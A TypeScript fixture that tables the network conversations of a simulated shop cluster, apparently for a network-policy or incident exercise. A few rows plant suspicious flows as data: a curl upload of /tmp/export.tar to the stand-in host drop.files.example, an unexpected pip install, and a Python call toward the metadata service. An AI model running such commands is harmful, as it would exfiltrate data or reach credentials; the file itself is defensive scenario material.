// Who talks to whom, as a table: one line is one kind of conversation with its usual size. What goes wrong with it, and
// when, is in incidents.ts; which policies judge it, in policies.ts.
import type { Program } from './workloads.ts'
import { workloads } from './workloads.ts'

/** A workload's path, visitors from outside, or a site outside by its name (empty for the metadata service). */
export type Party = { readonly workload: string } | { readonly visitors: true } | { readonly site: string }

export interface Conversation {
  readonly id: string
  readonly from: Party
  readonly to: Party
  readonly proto: 'tcp' | 'udp'
  readonly port: number
  /** Name of the port at the Service, empty where the client dials no Service. */
  readonly servicePort: string
  /** Connections a minute at the busiest hour, all pods together. */
  readonly perMinute: number
  /** Payload of one connection, bytes. */
  readonly sent: number
  readonly received: number
  /** Smoothed round trip, microseconds. */
  readonly rttUs: number
  /** Connections that each source pod keeps open all day; `perMinute` are then requests in them. */
  readonly pool: number
  /** Who opens it, where it is not the workload's own program. */
  readonly program?: Program
}

type Options = Partial<Pick<Conversation, 'pool' | 'program' | 'proto'>> & { readonly service?: string }

const party = (text: string): Party => {
  if (text === 'visitors') return { visitors: true }
  return text.startsWith('site:') ? { site: text.slice(5) } : { workload: text }
}

/** from, to, port, connections a minute, bytes sent, bytes received, round trip in microseconds. */
function talk(
  from: string,
  to: string,
  port: number,
  [perMinute, sent, received, rttUs]: readonly [number, number, number, number],
  { service = '', ...rest }: Options = {},
): Conversation {
  const base = { proto: 'tcp', pool: 0, servicePort: service } as const
  const size = { port, perMinute, sent, received, rttUs }
  return { id: `${from}>${to}:${port}`, from: party(from), to: party(to), ...base, ...size, ...rest }
}

const pip: Program = { name: 'pip', args: 'pip install --upgrade faiss-cpu', pid: '8812' }
const shellPython: Program = { name: 'python3', args: 'python3 -c import urllib.request', pid: '6031' }
const upload: Program = { name: 'curl', args: 'curl -s -T /tmp/export.tar https://drop.files.example/u', pid: '4711' }

const traffic: readonly Conversation[] = [
  talk('visitors', 'ingress/nginx', 443, [420, 2_600, 41_000, 38_000]),
  talk('ingress/nginx', 'shop/frontend', 3000, [380, 1_900, 36_000, 420], { service: 'http' }),
  talk('ingress/nginx', 'shop/catalog', 8080, [160, 1_200, 18_000, 390], { service: 'http' }),
  talk('shop/frontend', 'shop/checkout', 8080, [90, 3_100, 5_400, 450], { service: 'http' }),
  talk('shop/frontend', 'shop/catalog', 8080, [240, 900, 14_000, 380], { service: 'http' }),
  talk('shop/frontend', 'shop/cart', 8080, [120, 1_400, 2_600, 410], { service: 'http' }),
  talk('shop/checkout', 'payments/payments', 8443, [84, 4_800, 2_100, 1_500], { service: 'https' }),
  talk('shop/checkout', 'shop/orders', 8080, [70, 3_600, 1_800, 520], { service: 'http' }),
  talk('shop/checkout', 'shop/cart', 8080, [66, 800, 3_200, 430], { service: 'http' }),
  talk('shop/cart', 'data/redis', 6379, [2_400, 420, 5_600, 210], { service: 'redis', pool: 24 }),
  talk('shop/catalog', 'shop/search', 9200, [130, 1_100, 22_000, 610], { service: 'http' }),
  talk('shop/orders', 'data/redis', 6379, [300, 380, 900, 230], { service: 'redis', pool: 8 }),
  talk('shop/orders', 'data/postgres', 5432, [420, 1_600, 9_800, 340], { service: 'postgres', pool: 12 }),
  talk('shop/email', 'data/redis', 6379, [60, 120, 2_400, 240], { service: 'redis', pool: 2 }),
  talk('shop/email', 'site:smtp.sendgrid.net', 587, [9, 96_000, 1_400, 24_000]),
  talk('payments/payments', 'site:api.stripe.com', 443, [34, 5_200, 7_900, 18_500]),
  talk('payments/payments', 'payments/ledger', 9090, [40, 2_200, 1_100, 370], { service: 'grpc' }),
  talk('payments/ledger', 'data/postgres', 5432, [160, 1_900, 2_700, 350], { service: 'postgres', pool: 6 }),
  talk('data/rate-sync', 'site:www.ecb.europa.eu', 443, [2, 1_800, 160_000, 29_000]),
  talk('data/rate-sync', 'data/postgres', 5432, [2, 24_000, 1_900, 360], { service: 'postgres' }),
  talk('data/rate-sync', 'site:drop.files.example', 443, [3, 6_400_000, 9_000, 61_000], { program: upload }),
  talk('shop/search', 'site:api.stripe.com', 443, [24, 0, 0, 0]),
  talk('shop/search', 'site:packages.example.org', 443, [0.4, 0, 0, 0], { program: pip }),
  talk('shop/cart', 'site:', 80, [0.8, 0, 0, 0], { program: shellPython }),
  talk('monitoring/grafana', 'monitoring/prometheus', 9090, [18, 1_500, 64_000, 380], { service: 'http' }),
  talk('monitoring/grafana', 'data/postgres', 5432, [1.4, 0, 0, 0], { service: 'postgres' }),
  talk('data/postgres', 'kube-system/coredns', 53, [0.8, 0, 0, 0], { service: 'dns-tcp' }),
  talk('monitoring/probe', 'shop/frontend', 3000, [6, 300, 1_100, 440], { service: 'http' }),
  talk('monitoring/probe', 'payments/ledger', 9090, [0.9, 0, 0, 0], { service: 'grpc' }),
]

/** Prometheus scrapes each pod that has a metrics port, four times a minute, by its address and not by a Service. */
const scrapes = workloads.flatMap(({ namespace, name, ports, replicas }) => {
  const metrics = ports.find((port) => port.name === 'metrics')
  if (!metrics) return []
  return [talk('monitoring/prometheus', `${namespace}/${name}`, metrics.port, [4 * replicas, 380, 14_000, 400])]
})

/** Every workload asks the cluster's DNS; the busy ones more. */
const lookups = workloads
  .filter(({ name }) => name !== 'coredns' && name !== 'redis' && name !== 'postgres')
  .map(({ namespace, name, replicas }) => {
    const busy = namespace === 'shop' || namespace === 'payments' ? 26 : 8
    return talk(`${namespace}/${name}`, 'kube-system/coredns', 53, [busy * replicas, 48, 132, 0], {
      proto: 'udp',
      service: 'dns',
    })
  })

export const conversations: readonly Conversation[] = [...traffic, ...scrapes, ...lookups]

export function conversationOf(id: string): Conversation {
  const found = conversations.find((conversation) => conversation.id === id)
  if (!found) throw new Error(`BUG: no conversation ${id} in the story`)
  return found
}
